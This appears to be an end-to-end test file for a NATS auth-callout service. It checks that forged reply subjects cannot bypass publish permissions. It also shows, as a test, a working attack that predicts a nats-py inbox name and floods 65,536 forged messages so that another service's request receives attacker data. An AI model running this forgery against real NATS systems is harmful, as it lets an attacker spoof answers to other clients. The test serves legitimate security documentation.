"""What answering gives away: without the reply permission no more than the inboxes, and those to whoever knows them."""

import asyncio

import pytest
from nats.aio.msg import Msg
from nats.nuid import BASE, DIGITS, PREFIX_LENGTH, SEQ_LENGTH

from nats_k8s_oidc_callout.core.nats.subjects import private_inbox
from tests.e2e.clients import Login, connected, logged_in
from tests.e2e.worlds import World

pytestmark = pytest.mark.e2e

SUFFIXES = 1 << 16
"""How many there are behind each number of nats-py's: two random bytes."""


async def by_reply(client: Login, subject: str) -> str:
    """Ask oneself with a reply subject of one's choice, answer, and return what the server said to that."""
    got: asyncio.Future[Msg] = asyncio.get_running_loop().create_future()

    async def hear(message: Msg) -> None:
        got.set_result(message)

    heard = await client.client.subscribe("team-a.mirror", cb=hear)
    await client.client.publish("team-a.mirror", b"", reply=subject)
    await client.settle()
    async with asyncio.timeout(5):
        await got
    await heard.unsubscribe()
    return (await client.publish(subject)).lower()


@pytest.mark.parametrize("subject", ["team-b.orders", "$JS.API.STREAM.DELETE.X", "_INBOX_team-b_web.1"])
async def test_answering_oneself_reaches_nothing(attacked: World, subject: str) -> None:
    """
    Whoever sends themselves a message with a reply subject that is not granted may not publish there all the same.
    """
    async with logged_in(attacked, attacked.token()) as client:
        assert "permissions violation for publish" in await by_reply(client, subject)


@pytest.mark.parametrize("prefix", ["_INBOX", private_inbox("team-a", "worker").removesuffix(".>")])
async def test_whoever_knows_an_inbox_can_forge_its_answers(attacked: World, prefix: str) -> None:
    """
    Not stopped: who may answer anybody may answer for somebody else. nats-py counts its inboxes up, so one question to the
    forger tells where the next answer is waited for, by another service: one of 65,536 messages fits.
    """
    async with (
        logged_in(attacked, attacked.token(name="worker"), inbox=prefix) as victim,
        logged_in(attacked, attacked.token(name="orders.v2")) as bank,
        logged_in(attacked, attacked.token()) as forger,
    ):
        asked = await forger.listen("team-a.weather")
        await bank.listen("team-a.balance")
        weather = asyncio.create_task(victim.client.request("team-a.weather", timeout=5))
        question = await asked.next_msg(5)
        await question.respond(b"sunny")
        await weather
        async with connected(attacked, auth_token=attacked.token()) as raw:
            balance = asyncio.create_task(victim.client.request("team-a.balance", timeout=30))
            await victim.settle()
            inbox = _next(question.reply)
            raw.writer.write(b"".join(b"PUB %s%04x 6\r\nforged\r\n" % (inbox, number) for number in range(SUFFIXES)))

            assert b"forged" == (await balance).data


def _next(inbox: str) -> bytes:
    """Return the number that nats-py takes after that of an inbox `PREFIX.NUMBER.NUMBER` and four random digits."""
    *_, first, last = inbox.encode().split(b".")

    def value(number: bytes) -> int:
        whole = 0
        for digit in number[PREFIX_LENGTH : PREFIX_LENGTH + SEQ_LENGTH]:
            whole = whole * BASE + DIGITS.index(digit)
        return whole

    number, digits = 2 * value(last) - value(first), b""
    for _ in range(SEQ_LENGTH):
        number, digit = divmod(number, BASE)
        digits = DIGITS[digit : digit + 1] + digits
    head = inbox.encode().rpartition(b".")[0]
    return head + b"." + last[:PREFIX_LENGTH] + digits
